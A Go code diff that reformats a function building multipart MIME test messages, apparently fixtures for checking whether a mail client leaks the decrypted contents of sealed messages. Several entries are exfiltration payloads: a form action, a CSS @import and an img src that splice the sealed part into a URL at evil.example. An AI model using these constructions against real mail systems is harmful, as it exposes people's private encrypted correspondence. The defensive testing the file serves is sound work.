@@ -148,14 +148,38 @@ func Direct(sealed string) map[string]string {
 		return "Content-Type: multipart/" + kind + "; boundary=ef\n\n--ef\n" + strings.Join(parts, "\n--ef\n") + "\n--ef--\n"
 	}
 	return map[string]string{
-		"mixed":            join("mixed", open, sealed, shut),
-		"alternative":      join("alternative", open, sealed, shut),
-		"related":          join("related", open, sealed, shut),
-		"form":             join("mixed", "Content-Type: text/html\n\n<form action=\"http://evil.example/\"><textarea name=x>", sealed, "Content-Type: text/html\n\n</textarea><input type=submit>"),
-		"style":            join("mixed", "Content-Type: text/html\n\n<style>@import url(http://evil.example/?", sealed, "Content-Type: text/html\n\n);</style>"),
-		"nested":           join("mixed", open, "Content-Type: multipart/mixed; boundary=in\n\n--in\n"+sealed+"\n--in--", shut),
-		"forwarded":        join("mixed", open, "Content-Type: message/rfc822\n\nFrom: a@b.example\nSubject: x\nMIME-Version: 1.0\n"+sealed, shut),
-		"referenced":       join("related", "Content-Type: text/html\n\n<iframe src=\"cid:x\"></iframe>", "Content-ID: <x>\n"+sealed),
+		"mixed":       join("mixed", open, sealed, shut),
+		"alternative": join("alternative", open, sealed, shut),
+		"related":     join("related", open, sealed, shut),
+		"form": join(
+			"mixed",
+			"Content-Type: text/html\n\n<form action=\"http://evil.example/\"><textarea name=x>",
+			sealed,
+			"Content-Type: text/html\n\n</textarea><input type=submit>",
+		),
+		"style": join(
+			"mixed",
+			"Content-Type: text/html\n\n<style>@import url(http://evil.example/?",
+			sealed,
+			"Content-Type: text/html\n\n);</style>",
+		),
+		"nested": join(
+			"mixed",
+			open,
+			"Content-Type: multipart/mixed; boundary=in\n\n--in\n"+sealed+"\n--in--",
+			shut,
+		),
+		"forwarded": join(
+			"mixed",
+			open,
+			"Content-Type: message/rfc822\n\nFrom: a@b.example\nSubject: x\nMIME-Version: 1.0\n"+sealed,
+			shut,
+		),
+		"referenced": join(
+			"related",
+			"Content-Type: text/html\n\n<iframe src=\"cid:x\"></iframe>",
+			"Content-ID: <x>\n"+sealed,
+		),
 		"said to be plain": join("mixed", "Content-Type: text/plain\n\n<img src='http://evil.example/?", sealed, shut),
 	}
 }
